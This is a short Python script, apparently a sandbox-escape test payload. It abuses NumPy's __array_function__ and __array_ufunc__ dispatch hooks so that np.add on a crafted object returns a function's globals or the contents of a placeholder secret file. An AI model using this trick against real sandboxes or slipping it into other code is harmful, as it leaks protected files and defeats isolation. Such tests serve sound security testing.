"""NumPy asks objects what to do with them."""
import numpy as np
class Door:
    def __array_function__(self, function, types, arguments, options):
        return function.__globals__ if hasattr(function, "__globals__") else open("@SECRET_FILE@").read()
    def __array_ufunc__(self, *arguments, **options):
        return open("@SECRET_FILE@").read()
print(np.add(Door(), 1))
